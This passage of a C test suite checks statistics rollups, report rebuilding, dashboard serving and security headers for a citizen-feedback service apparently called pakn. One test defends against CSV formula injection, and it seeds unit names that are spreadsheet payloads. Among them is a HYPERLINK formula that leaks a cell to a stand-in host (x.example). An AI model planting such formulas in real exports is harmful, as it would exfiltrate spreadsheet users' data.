	"(SELECT CASE WHEN count(*) > 0 THEN 0 ELSE 1000 END FROM a)"

START_TEST(test_monthly_equals_daily)
{
	/* Whole months from pakn.stat_month, the days of partial months
	 * from pakn.stat_day: the same counters as reading every day. The
	 * data lies from 8/9 to 13/10 and today. */
	static const char *ranges[][2] = {
	    {"2026-09-01", "2026-11-30"}, /* three whole months */
	    {"2026-10-01", "2026-10-31"}, /* one */
	    {"2026-09-11", "2026-10-10"}, /* none: two partial months */
	    {"2026-09-09", "2026-11-10"}, /* partial, whole, partial */
	    {"2026-09-15", "2026-10-31"}, /* partial, whole */
	    {"2026-10-05", "2026-10-09"}, /* within one month */
	    {"2025-12-31", "2027-01-01"}, /* a day, a year, a day */
	};
	char *n;

	for (size_t i = 0; i < sizeof ranges / sizeof *ranges; i++) {
		n = sql_value(SPAN_DIFF_SQL, ranges[i][0], ranges[i][1], NULL);
		ck_assert_msg(n != NULL && !strcmp(n, "0"),
		              "%s..%s: %s rows differ (1000: no rows)",
		              ranges[i][0], ranges[i][1], n ? n : "NULL");
		free(n);
	}
	/* Hà Nội's third quarter: June 11-30 and September 1-10 by day, July
	 * and August by month. */
	assert_sql_str("SELECT string_agg(p::text, ' ' ORDER BY p.f) FROM "
	               "pakn.stat_pieces('2026-06-11', '2026-09-10') p",
	               "(f,2026-06-11,2026-06-30) (t,2026-07-01,2026-08-01) "
	               "(f,2026-09-01,2026-09-10)");
	assert_sql_str("SELECT string_agg(p::text, ' ' ORDER BY p.f) FROM "
	               "pakn.stat_pieces('2026-01-05', '2026-02-10') p",
	               "(f,2026-01-05,2026-02-10)");
	/* A month's rollups are the sum of its days' (in one snapshot: the
	 * fold writes both in one transaction). */
	ck_assert_int_eq(
	    sql_long("WITH m AS (SELECT unit_code, pakn.stat_month_of(day), "
	             "dimension, category, sum(received)::integer, "
	             "sum(answered)::integer, sum(on_time)::integer, "
	             "sum(apologies)::integer, sum(transfers)::integer, "
	             "sum(reopens)::integer, sum(ratings)::integer, "
	             "sum(rating_sum)::integer, sum(satisfied)::integer "
	             "FROM pakn.stat_day GROUP BY 1, 2, 3, 4) "
	             "SELECT (SELECT count(*) FROM (TABLE m EXCEPT ALL "
	             "TABLE pakn.stat_month) x) + (SELECT count(*) FROM "
	             "(TABLE pakn.stat_month EXCEPT ALL TABLE m) y)",
	             NULL),
	    0);
}
END_TEST

START_TEST(test_rebuild_equals_incremental)
{
	char *argv[] = {(char *)paknctl_path(), "-c", harness_main()->conf,
	                "rebuild-stats", NULL};
	char out[PATH_MAX], *before, *after, *text;

	/* The fold timer (every second) has moved the deltas. */
	for (int i = 0; i < 50 && sql_long("SELECT count(*) FROM "
	                                   "pakn.stat_delta",
	                                   NULL) > 0;
	     i++)
		sleep_ms(100);
	ck_assert_int_eq(sql_long("SELECT count(*) FROM pakn.stat_delta", NULL),
	                 0);
	before = sql_value(ROLLUP_SQL, NULL);
	harness_path(out, sizeof out, "rebuild.out");
	ck_assert_int_eq(harness_run(argv, out, out, 60), 0);
	text = file_read(out, NULL);
	assert_contains(text, "statistics rebuilt:");
	after = sql_value(ROLLUP_SQL, NULL);
	ck_assert_ptr_nonnull(before);
	ck_assert_str_eq(before, after);
	/* 25 counted events: 11 routed and 11 answers (B1 twice, not K2;
	 * the live complaint's included), 1 apology, 1 transfer, 1
	 * reopening; 8 ratings. */
	assert_contains(text, "25 events, 8 ratings");
	assert_contains(text, "monthly rows");
	free(before);
	free(after);
	free(text);
}
END_TEST

START_TEST(test_dashboard_served)
{
	struct http_resp r;

	http_get(harness_main()->port, "/dashboard", &r);
	assert_http(&r, 200);
	assert_contains(r.ctype, "text/html; charset=utf-8");
	assert_contains(r.body, "bảng điều hành");
	http_resp_free(&r);
}
END_TEST

/* Units whose names a spreadsheet would run as formulas (OWASP's CSV
 * injection): every CSV pakn writes (/v1/stats.csv, the public report's
 * CSV, paknctl report --csv) gives such a cell a leading single quote and
 * quotes it. */
START_TEST(test_csv_formulas)
{
	static const char *const want[] = {
	    "C30,\"'=HYPERLINK(\"\"http://x.example/"
	    "?leak=\"\"&A1,\"\"Bấm\"\")\"",
	    "C31,\"'+1+1\"",
	    "C32,\"'-2+3\"",
	    "C33,\"'@SUM(1+1)\"",
	    "C34,\"'\tcmd\"",
	    NULL};
	char *argv[] = {(char *)paknctl_path(),
	                "-c",
	                harness_main()->conf,
	                "report",
	                "--month",
	                "2026-10",
	                "--unit",
	                "P03",
	                "--csv",
	                NULL};
	char out[PATH_MAX], *text;
	struct http_resp r[2];

	PQclear(q("INSERT INTO pakn.unit (code, name, parent_code, kind) "
	          "VALUES ('P03', 'Tỉnh Công Thức', NULL, 'province'), ('C30', "
	          "'=HYPERLINK(\"http://x.example/?leak=\"&A1,"
	          "\"Bấm\")', 'P03', 'commune'), ('C31', '+1+1', 'P03', "
	          "'commune'), ('C32', '-2+3', 'P03', 'commune'), ('C33', "
	          "'@SUM(1+1)', 'P03', 'commune'), ('C34', E'\\tcmd', 'P03', "
	          "'commune')",
	          NULL));
	PQclear(q("INSERT INTO pakn.official (unit_code, name, phone, role) "
	          "VALUES ('P03', 'Lãnh đạo P03', '+84911000031', "
	          "'leader')",
	          NULL));
	PQclear(q("INSERT INTO pakn.api_token (official_id, token_hash) SELECT "
	          "id, sha256(convert_to('tok-leader-p03', 'UTF8')) FROM "
	          "pakn.official WHERE phone = '+84911000031'",
	          NULL));
	get_as("tok-leader-p03",
	       "/v1/stats.csv?unit=P03&period=2026-10&by=unit", NULL, &r[0]);
	http_get(harness_main()->port, "/public/report/2026-10.csv?unit=P03",
	         &r[1]);
	harness_path(out, sizeof out, "report-formulas.csv");
	ck_assert_int_eq(harness_run(argv, out, NULL, 30), 0);
	text = file_read(out, NULL);
	ck_assert_ptr_nonnull(text);
	for (int i = 0; i < 3; i++) {
		const char *body = i < 2 ? r[i].body : text;

		if (i < 2) {
			assert_http(&r[i], 200);
			assert_contains(r[i].ctype, "text/csv");
		}
		for (int k = 0; want[k] != NULL; k++)
			assert_contains(body, want[k]);
		assert_lacks(body, "\n=");
		assert_lacks(body, ",=");
		assert_lacks(body, ",+1");
		assert_lacks(body, ",@");
	}
	http_resp_free(&r[0]);
	http_resp_free(&r[1]);
	free(text);
}
END_TEST

/* Fail unless a response has a header whose value contains want. */
static void
assert_header(const struct http_resp *r, const char *name, const char *want)
{
	char *v = http_resp_header(r, name);

	ck_assert_msg(v != NULL && strstr(v, want) != NULL,
	              "%s: \"%s\", want \"%s\"", name, v ? v : "(none)", want);
	free(v);
}

/* Fail unless an answer carries the headers of every page we serve. */
static void
assert_page_headers(const struct http_resp *r)
{
	char *csp = http_resp_header(r, "Content-Security-Policy");

	assert_contains(csp, "frame-ancestors 'none'");
	assert_lacks(csp, "unsafe-inline");
	assert_lacks(csp, "unsafe-eval");
	free(csp);
	assert_header(r, "X-Frame-Options", "DENY");
	assert_header(r, "X-Content-Type-Options", "nosniff");
	assert_header(r, "Referrer-Policy", "no-referrer");
}

START_TEST(test_browser_headers)
{
	const char *const files[][2] = {
	    {"/dashboard/app.js", "text/javascript"},
	    {"/dashboard/app.css", "text/css"},
	    {"/public/report/2026-10.csv", "text/csv"},
	};
	unsigned char md[EVP_MAX_MD_SIZE], b64[64];
	struct http_resp r;
	const char *style, *end;
	unsigned int n;
	char *want;

	/* The dashboard: its script and style are files of its own. */
	http_get(harness_main()->port, "/dashboard", &r);
	assert_http(&r, 200);
	assert_page_headers(&r);
	assert_header(&r, "Content-Security-Policy", "default-src 'self'");
	assert_contains(r.body, "<script src=\"/dashboard/app.js\"></script>");
	assert_lacks(r.body, "<script>");
	assert_lacks(r.body, "<style");
	http_resp_free(&r);
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		http_get(harness_main()->port, files[i][0], &r);
		assert_http(&r, 200);
		assert_contains(r.ctype, files[i][1]);
		assert_header(&r, "X-Content-Type-Options", "nosniff");
		assert_header(&r, "Referrer-Policy", "no-referrer");
		http_resp_free(&r);
	}
	/* The public report: no script at all, its one style by hash. */
	http_get(harness_main()->port, "/public/report/2026-10", &r);
	assert_http(&r, 200);
	assert_page_headers(&r);
	assert_header(&r, "Content-Security-Policy", "default-src 'none'");
	assert_lacks(r.body, "<script");
	style = strstr(r.body, "<style>");
	ck_assert_ptr_nonnull(style);
	style += 7;
	ck_assert_ptr_nonnull((end = strstr(style, "</style>")));
	ck_assert(EVP_Digest(style, (size_t)(end - style), md, &n, EVP_sha256(),
	                     NULL));
	EVP_EncodeBlock(b64, md, (int)n);
	want = strf("style-src 'sha256-%s'", b64);
	assert_header(&r, "Content-Security-Policy", want);
	free(want);
	http_resp_free(&r);
}
END_TEST

/* Build the suite, in the order the tests must run. */
static Suite *
stats_suite(void)
{
	Suite *s = suite_create("stats");
	TCase *tc = tcase(s, "stats", 60);

	tcase_add_test(tc, test_closure);
	tcase_add_test(tc, test_periods_and_days);
	tcase_add_test(tc, test_province_by_unit);
	tcase_add_test(tc, test_district_by_dimension);
	tcase_add_test(tc, test_cutoff_day);
	tcase_add_test(tc, test_subtree_sums);
	tcase_add_test(tc, test_monthly_equals_daily);
	tcase_add_test(tc, test_permissions);
	tcase_add_test(tc, test_csv);
	tcase_add_test(tc, test_public_report);
	tcase_add_test(tc, test_paknctl_report);
	tcase_add_test(tc, test_dashboard_served);
	tcase_add_test(tc, test_browser_headers);
	tcase_add_test(tc, test_live_events_and_bc);
	tcase_add_test(tc, test_rebuild_equals_incremental);
	tcase_add_test(tc, test_csv_formulas);
	return s;
}

/* Start the servers, seed the data set, run the suite. */
int
main(void)
{
	struct paknd *d = harness_main();
	SRunner *sr;
	int failed, status;
	char *errors;

	if (harness_init() == -1 || pg_setup() == -1)
		return 99;
	if (paknd_start(d, "stats",
	                "[stats]\ncutoff_day = 10\n"
	                "fold_interval = 1\n") == -1 ||
	    paknd_wait_ready(d, 10) == -1 ||
	    sql_exec_db("pakn", seed_sql) != 0) {
		fprintf(stderr,
		        "stats: paknd or the data set does not start\n");
		return EXIT_FAILURE;
	}
	sr = srunner_create(stats_suite());
	srunner_run_all(sr, CK_ENV);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	status = paknd_stop(d, 10);
	if (status == -1 || !WIFEXITED(status) || WEXITSTATUS(status) != 0)
		failed++;
	if ((errors = log_grep(d->log, 0, "[error]")) != NULL) {
		fprintf(stderr, "paknd logged errors:\n%s", errors);
		free(errors);
		failed++;
	}
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
